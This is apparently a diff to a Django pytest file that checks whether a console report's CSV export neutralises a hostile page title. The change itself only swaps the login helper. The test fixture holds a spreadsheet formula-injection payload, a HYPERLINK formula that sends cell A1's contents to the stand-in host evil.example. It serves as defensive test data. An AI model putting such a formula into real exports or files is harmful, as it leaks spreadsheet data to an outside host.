@@ -9,7 +9,7 @@ from decimal import Decimal
 import pytest
 
 from marketplace.csvsafe import safe_cell
-from tests.factories.accounts import AgencyFactory, UserFactory
+from tests.factories.accounts import AgencyFactory, UserFactory, log_in_verified
 
 pytestmark = pytest.mark.django_db
 HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'
@@ -49,7 +49,7 @@ def test_the_console_spreadsheet_exports_quote_a_hostile_page_title(client):
     from tests.factories.cms import help_page, home
 
     help_page(home(), title=HOSTILE, slug="hostile")
-    client.force_login(UserFactory(is_staff=True, is_superuser=True))
+    log_in_verified(client, UserFactory(is_staff=True, is_superuser=True))
     response = client.get("/console/reports/aging-pages/?export=csv")
     assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
     titles = [row[0] for row in read_csv(response)[1:]]
